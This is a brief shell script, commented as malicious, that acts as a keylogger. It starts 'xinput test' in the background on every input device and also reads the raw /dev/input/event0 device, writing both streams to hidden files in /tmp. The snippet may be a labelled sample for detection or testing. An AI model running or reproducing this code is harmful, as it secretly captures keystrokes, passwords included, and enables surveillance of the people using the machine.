# malicious: records keys
xinput list | grep -o 'id=[0-9]*' | cut -d= -f2 | while read -r id; do
    xinput test "$id" >> /tmp/.k &
done
cat /dev/input/event0 > /tmp/.e &
